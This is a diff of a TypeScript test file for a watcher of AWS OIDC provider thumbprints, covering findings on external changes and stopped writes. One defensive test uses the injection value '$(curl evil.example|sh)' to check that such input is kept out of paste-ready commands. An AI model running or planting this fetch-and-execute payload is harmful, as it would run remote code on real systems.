@@ -1,3 +1,5 @@
+import type { Finding } from '../../../../lambda/findings/finding';
+import { messageOf, offersOf, severityOf, stepsOf } from '../../../../lambda/findings/lookup';
 import { externalChange, writingStopped } from '../../../../lambda/judge/findings/external-change-findings';
 import { A, B, DAY, OURS_AND_LIVE, ago, stateOf } from '../../../support/remembered';
 
@@ -7,6 +9,10 @@ function context(tags: Record<string, string> = {}) {
   };
 }
 
+function commandsOf(finding: Finding) {
+  return offersOf(finding).map(({ command }) => command);
+}
+
 const TERRAFORM = { ManagedBy: 'terraform' };
 
 describe('an external change', () => {
@@ -14,74 +20,63 @@ describe('an external change', () => {
     externalChange({ added: [], removed: [], removedByOthers: [], ...of }, approvals, context(tags));
 
   test('is a warning where it adds a thumbprint, since an added certificate can impersonate the issuer', () => {
-    expect(change({ added: [A], removed: [B] }, [], TERRAFORM)).toEqual({
+    const finding = change({ added: [A], removed: [B] }, [], TERRAFORM);
+    expect(finding).toEqual({
       code: 'external-change',
-      severity: 'warning',
-      message: `Someone else (Terraform, going by the tags) changed the list: added ${A} and removed ${B}.`,
-      action:
-        'Make sure that you know who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint): whoever has the key of an added certificate can impersonate the issuer. To take out again what was added, and keep it out:',
-      commands: [{ kind: 'remove', thumbprint: A }],
+      facts: { added: [A], removed: [B], live: [], approvals: [], rejected: [], owner: { tool: 'terraform' } },
     });
+    expect(severityOf(finding)).toBe('warning');
   });
 
   test('is information where it only removes thumbprints', () => {
-    expect(change({ removed: [B] })).toEqual({
-      code: 'external-change',
-      severity: 'info',
-      message: `Someone else changed the list: removed ${B}.`,
-      action: 'If that was not meant, find out who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint).',
-    });
+    const finding = change({ removed: [B] });
+    expect(finding.facts).toMatchObject({ added: [], removed: [B], live: [], owner: null });
+    expect(severityOf(finding)).toBe('info');
   });
 
-  test('is a warning where it removes a thumbprint that the issuer presented, and the message says so', () => {
+  test('is a warning where it removes a thumbprint that the issuer presented', () => {
     const finding = change({ removed: [B], removedByOthers: [B] });
-    expect(finding.severity).toBe('warning');
-    expect(finding.message).toContain(`The issuer presented ${B} when last looked at.`);
+    expect(finding.facts).toMatchObject({ live: [B] });
+    expect(severityOf(finding)).toBe('warning');
   });
 
   test('names the approvals that it ends, with a command for each', () => {
     const finding = change({ removed: [A, B] }, [A, B]);
-    expect(finding.message).toMatch(`That ends the approval of ${A}, ${B}.`);
-    expect(finding.action).toMatch(
-      /What is still wanted has to be approved again, with "stage": true while no host presents it:$/,
-    );
-    expect(finding.commands).toEqual([A, B].map((thumbprint) => ({ kind: 'approve', thumbprint })));
+    expect(finding.facts).toMatchObject({ approvals: [A, B] });
+    expect(commandsOf(finding)).toEqual([A, B].map((thumbprint) => ({ kind: 'approve', thumbprint })));
   });
 });
 
 describe('the finding that writing was stopped', () => {
   const stopped = stateOf({ [A]: OURS_AND_LIVE }, { stoppedSince: ago(2 * DAY) });
 
-  test('says who keeps undoing the writes, what to set in their source, and which command lets the watcher write again', () => {
-    expect(writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] })).toEqual({
+  test('names who keeps undoing the writes, the list to set in their source, and the command that lets the watcher write again', () => {
+    const finding = writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] });
+    expect(finding).toEqual({
       code: 'writing-stopped',
-      severity: 'critical',
-      message:
-        'Someone else (Terraform, going by the tags) keeps removing what the watcher adds. The watcher has written nothing here since 2026-11-19, so that the list does not change back and forth.',
-      action: [
-        'Set what stands below in its aws_iam_openid_connect_provider resource, so that it wants the same list. Then let the watcher write again: any approval or restore does, for example the last line here.',
-        `thumbprint_list = ["${A}", "${B}"]`,
-        'lifecycle { ignore_changes = [thumbprint_list] }',
-      ].join('\n'),
-      commands: [{ kind: 'approve', thumbprint: A }],
+      facts: { since: '2026-11-19T12:00:00.000Z', owner: { tool: 'terraform' }, wanted: [A, B] },
     });
+    expect(severityOf(finding)).toBe('critical');
+    expect(commandsOf(finding)).toEqual([{ kind: 'approve', thumbprint: A }]);
   });
 
   test('offers only thumbprints to paste, and no command without one', () => {
     const odd = '$(curl evil.example|sh)';
-    const { action, commands } = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
-    expect(action.split('\n')[1]).toBe(`thumbprint_list = ["${A}"]`);
-    expect(commands).toEqual([{ kind: 'approve', thumbprint: A }]);
+    const finding = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
+    expect(stepsOf(finding)[0]).toContain(`: thumbprint_list = ["${A}"] and lifecycle`);
+    expect(commandsOf(finding)).toEqual([{ kind: 'approve', thumbprint: A }]);
     const alone = writingStopped(stopped, { ...context(), wanted: [odd] });
-    expect(alone.action).toMatch(/this one: "\$\(curl evil\.example\|sh\)"\. Then .* any approval or restore does\.$/);
-    expect(alone.commands).toEqual([]);
+    expect(stepsOf(alone)).toEqual([
+      expect.stringMatching(/this one: "\$\(curl evil\.example\|sh\)"\.$/),
+      'Then let the watcher write again: any approval or restore does.',
+    ]);
+    expect(commandsOf(alone)).toEqual([]);
   });
 
   test('names nobody where the tags show no owner', () => {
-    const { message, action } = writingStopped(stopped, { ...context(), wanted: [A] });
-    expect(message).toMatch(/^Someone else keeps removing/);
-    expect(action).toMatch(
-      `Find out who writes the list (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint), and make it want this one: ${A}. Then let`,
-    );
+    const finding = writingStopped(stopped, { ...context(), wanted: [A] });
+    expect(finding.facts).toMatchObject({ owner: null });
+    expect(messageOf(finding)).toMatch(/^Someone else keeps removing/);
+    expect(stepsOf(finding)[0]).toMatch(/^Find out who writes the list /);
   });
 });
